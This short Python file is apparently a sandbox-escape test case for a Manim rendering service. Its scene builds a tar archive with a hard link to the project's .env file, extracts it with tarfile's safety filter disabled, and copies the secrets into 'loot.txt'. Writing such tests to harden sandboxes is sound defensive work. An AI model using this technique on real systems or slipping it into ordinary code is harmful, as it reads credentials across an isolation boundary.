# family: file
# layer: sandbox
# attack: a tar hard link to the project's .env inside the job folder
import io
import tarfile
from manim import *


class Attack(Scene):
    def construct(self):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            info = tarfile.TarInfo("env-link")
            info.type, info.linkname = tarfile.LNKTYPE, "{{PROJECT}}/.env"
            tar.addfile(info)
        buf.seek(0)
        with tarfile.open(fileobj=buf) as tar:
            tar.extractall(".", filter="fully_trusted")
        open("loot.txt", "w").write(open("env-link").read())
        self.wait(0.1)
